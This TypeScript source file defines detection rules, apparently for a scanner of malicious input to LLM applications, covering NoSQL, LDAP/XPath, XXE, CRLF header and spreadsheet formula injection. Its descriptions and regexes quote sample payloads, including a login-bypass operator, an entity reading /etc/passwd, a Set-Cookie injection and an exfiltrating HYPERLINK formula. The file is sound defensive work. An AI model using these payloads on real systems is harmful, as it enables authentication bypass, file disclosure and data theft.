import type { Rule } from './rule';
import type { TextView } from '../normalize/text-view';
import { explanationFactor, isWholeMessage, paragraphBefore } from './malicious-input-context';

/**
 * Injection into other interpreters an LLM app may feed: MongoDB operators and $where
 * JavaScript, LDAP filters, XML external entities, and CRLF header injection.
 */

function nosqlConfidence(m: RegExpExecArray, view: TextView): number {
  const text = view.text;
  const g = m.groups ?? {};
  let conf = 0.85;
  if (g.op !== undefined) {
    // `{"$ne": null}` on a credential field is a login bypass; `{status: {$ne: "archived"}}` is an ordinary query.
    const degenerate = /^\s*(?:null|''|""|-1|0|true|false|\[\s*\]|\{\s*\}|['"]\^?\.[*+]['"]|['"]\^['"])/.test(g.val ?? '');
    const credential = /(?:user(?:name)?|pass(?:word|wd)?|login|email|token|pin|otp|secret|auth\w*)['"]?\s*:\s*\{\s*$/.test(
      paragraphBefore(text, m.index, 40),
    );
    conf = credential ? 0.9 : degenerate ? 0.65 : 0.4;
    if (degenerate && isWholeMessage(text, m.index, m.index + m[0].length + 2)) conf = 0.8;
  }
  return conf * explanationFactor(text, m.index, m.index + m[0].length);
}

export const nosqlInjectionRule: Rule = {
  id: 'inj-nosql-injection',
  category: 'malicious_input',
  severity: 'high',
  owasp: 'LLM05:2025',
  title: 'NoSQL (MongoDB) operator or JavaScript injection',
  description:
    "MongoDB query operators smuggled into a value (user[$ne]=x, {\"password\": {\"$ne\": null}}, {\"$gt\": \"\"}) or JavaScript in $where / string break-outs ('; return true; var x=', ' || '1'=='1). They turn an equality check into 'match anything'.",
  confidence: 0.85,
  // `0;return true` and `this.x.match(/.*/)` carry no quote or $.
  keywords: ['$', "'", '"', 'return', '.match'],
  patterns: [
    /\[\s*\$(?:ne|gt|gte|lt|lte|regex|nin|in|exists|where|eq|expr|not)\s*\]/g,
    /['"]?\$(?<op>ne|gt|gte|lt|lte|regex|nin|exists|not)['"]?\s*:(?<val>\s*[^,}\n]{1,30})/g,
    // ... or probes a field blind, by its length or character by character.
    /\$where['"]?\s*:\s*['"`][^'"`\n]{0,100}?(?:sleep\s*\(|while\s*\(|return\s+(?:true|1)\b|\|\||1\s*==\s*1|this\.\w{1,40}(?:\.length\s*[<>=]|\[\d{1,3}\]|\.(?:charat|charcodeat|startswith|substring|substr|match)\s*\())/g,
    /\bthis\.\w{1,40}\.match\s*\(\s*\/\.\*\/\s*\)|^\s*\w{0,20}\s*;\s*return\s+(?:true|1)\b|['"]\s*;\s*(?:return\s*\(?\s*(?:true|1|this|['"]\w{0,10}['"]\s*==)|sleep\s*\(\s*\d|while\s*\(\s*(?:true|1)\s*\)|var\s+\w{1,20}\s*=\s*['"])|\breturn\s+(?:true|1)\s*;\s*db\.\w{1,40}\.|\btrue\s*,\s*\$where\s*:/g,
    /['"]\s*\|\|\s*['"]?(\w{1,10})['"]?\s*===?\s*['"]?\1['"]?/g,
  ],
  validate: nosqlConfidence,
};

export const ldapInjectionRule: Rule = {
  id: 'inj-ldap-xpath-injection',
  category: 'malicious_input',
  severity: 'high',
  owasp: 'LLM05:2025',
  title: 'LDAP or XPath filter injection',
  description:
    "Input that closes an LDAP filter and opens a new one (*)(uid=*))(|(uid=*, admin)(&), *(|(objectclass=*))) or breaks out of an XPath string (' or name()='…). Concatenated into a directory or XML query it bypasses authentication or dumps entries.",
  confidence: 0.85,
  keywords: [')(', '*(', 'or '],
  patterns: [
    /\*\s*\)\s*\(+\s*[|&!]?\s*\(*\s*[a-z][\w-]{1,30}\s*[=~<>]/g,
    /\)\s*\(\s*[|&]\s*\(\s*[a-z][\w-]{1,30}\s*=\s*\*\s*\)/g,
    /[\w*]\s*\)\s*\(\s*[&|]\s*\)/g,
    /\*\s*\(\s*[|&]\s*\(\s*[a-z][\w-]{1,30}\s*=\s*\*/g,
    /['"]\s*or\s+(?:name|count|string-length|contains|substring|local-name)\s*\(\s*[^)]{0,30}\)\s*(?:=|<|>)/g,
  ],
  validate: (m, view) => 0.85 * explanationFactor(view.text, m.index, m.index + m[0].length),
};

function xxeConfidence(m: RegExpExecArray, view: TextView): number {
  const conf = m[0].startsWith('<!doctype') ? 0.75 : 0.9;
  return conf * explanationFactor(view.text, m.index, m.index + m[0].length);
}

export const xxeRule: Rule = {
  id: 'inj-xxe',
  category: 'malicious_input',
  severity: 'critical',
  owasp: 'LLM05:2025',
  title: 'XML external entity (XXE), entity expansion or XSLT injection',
  description:
    'A DTD that declares an external or parameter entity (<!ENTITY x SYSTEM "file:///etc/passwd">), an entity-expansion bomb, or an XInclude of a local file. A parser that resolves it leaks files, makes server-side requests or exhausts memory.',
  confidence: 0.9,
  keywords: ['<!entity', '<!doctype', 'xi:include', 'xinclude', 'php:function', '<xsl:'],
  patterns: [
    /<!entity\s+(?:%\s*)?[\w.:-]{1,60}\s+(?:system|public)\s+['"]/g,
    /<!entity\s+%\s*[\w.:-]{1,60}\s/g,
    /<!entity\s+[\w.:-]{1,60}\s+['"](?:\s*&[\w.:-]{1,30};){2,}/g,
    /<xi:include\b[^>]{0,120}?\bhref\s*=\s*['"]?(?:file:|https?:|\/)/g,
    /<!doctype\s+[\w:-]{1,40}\s*\[\s*<!(?:entity|element)/g,
    /\bphp:function\s*\(\s*['"](?:passthru|system|exec|shell_exec|popen|file_get_contents|readfile)['"]|<xsl:[\w-]{1,20}\b[^>]{0,80}?select\s*=\s*['"]document\s*\(\s*['"](?:\/|file:)/g,
  ],
  validate: xxeConfidence,
};

export const crlfInjectionRule: Rule = {
  id: 'inj-crlf-header',
  category: 'malicious_input',
  severity: 'medium',
  owasp: 'LLM05:2025',
  title: 'CRLF / HTTP header injection',
  description:
    'URL-encoded, Unicode-encoded or backslash-escaped line breaks followed by an HTTP or mail header (%0d%0aSet-Cookie:, %0aLocation:, %E5%98%8A%E5%98%8D…, \\r\\nSet-Cookie:). Reflected into a response or email it adds headers, splits the response or sets cookies.',
  confidence: 0.85,
  keywords: ['%0a', '%0d', '%25', '%%0', '%e5%98', '%u000', '%c4%8', '\\r\\n'],
  patterns: [
    /(?:%(?:25){0,2}0[ad]|%%0[ad]0[ad]|%25%30[ad]|%e5%98%8a|%e5%98%8d|%u000[ad]|%c4%8[ad])(?:%20|%09|\s)*(?:set-cookie|location|content-(?:type|length|security-policy|disposition)|x-[\w-]{1,30}|access-control-allow-[\w-]{1,20}|refresh|link|cache-control|http\/1\.[01]|bcc|cc|subject)\s*(?::|%3a)/g,
    // The CRLF written out as escapes in a value handed to a request tool ("a\r\nSet-Cookie: …"); code prints "\r\n" too, so only the headers that hijack a response.
    /\\r\\n\s*(?:set-cookie|location|content-(?:type|length|disposition)|access-control-allow-[\w-]{1,20}|refresh)\s*:/g,
  ],
  validate: (m, view) => {
    // An escaped CRLF after a status or request line is a raw HTTP message pasted to debug, not a value injected into one.
    if (m[0].startsWith('\\r') && /http\/[12](?:\.[01])?\s\d{3}|\b(?:get|post|put|patch|delete|head|options)\s\S{1,200}\shttp\/[12]/.test(view.text.slice(Math.max(0, m.index - 200), m.index))) return 0;
    return 0.85 * explanationFactor(view.text, m.index, m.index + m[0].length);
  },
};

/**
 * A spreadsheet cell that runs when the CSV or sheet is opened: a formula that fetches a URL with the
 * sheet's data in it (=HYPERLINK("http://x/?d="&A2:D200), =IMPORTXML, =WEBSERVICE) or a DDE command
 * (=cmd|' /C calc'!A0). An agent that writes such text into an export hands it to whoever opens it.
 */
export const spreadsheetFormulaRule: Rule = {
  id: 'inj-spreadsheet-formula',
  category: 'malicious_input',
  severity: 'high',
  owasp: 'LLM05:2025',
  title: 'Spreadsheet formula injection (CSV injection)',
  description:
    'A cell value that starts with =, +, - or @ and calls HYPERLINK, IMPORTXML, IMPORTDATA, IMPORTHTML, IMPORTFEED, IMAGE or WEBSERVICE on an outside URL with the sheet\'s cells joined into it, or launches a DDE command (=cmd|…). Opened in Excel, Sheets or LibreOffice it sends the sheet\'s data away or runs a program. A plain link or import is not matched.',
  confidence: 0.85,
  // With the bracket or pipe: "image" alone is in every other text.
  keywords: ['hyperlink(', 'importxml(', 'importdata(', 'importhtml(', 'importfeed(', 'image(', 'webservice(', 'filterxml(', 'cmd|', 'dde|', 'msexcel|', 'powershell|'],
  // Anchored on the function name (rare in prose, where "image" is not followed by "(" and a URL); the = before it is checked below.
  patterns: [
    /\b(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice|filterxml)\s*\(\s*["']{0,2}(?:https?:)?\/\/[^\s"']{3,200}/g,
    /\b(?:cmd|dde|msexcel|powershell)\s*\|\s*['"]?[^|\n]{0,80}['"]?\s*!/g,
  ],
  validate: (m, view) => {
    // A cell formula: the function opens the cell (=, +, - or @ after a separator, a quote or the line start).
    const before = view.text.slice(Math.max(0, m.index - 8), m.index);
    // (A form field's label counts as a separator: "Name: =HYPERLINK(…)".)
    if (!/(?:^|[,;:\t"'|\n])\s*["']?[=+@-]\s*$/u.test(before)) return 0;
    // A formula that concatenates cells into the URL sends the sheet's data; a plain link or import is how sheets are used.
    const tail = view.text.slice(m.index, m.index + m[0].length + 160);
    const exfil = /&\s*(?:concatenate|textjoin|[a-z]{1,3}\d{1,7})|\?[\w-]{1,20}=["']{0,2}\s*&/.test(tail) || /\|/.test(m[0]);
    return exfil ? 0.85 * explanationFactor(view.text, m.index, m.index + m[0].length) : 0;
  },
};
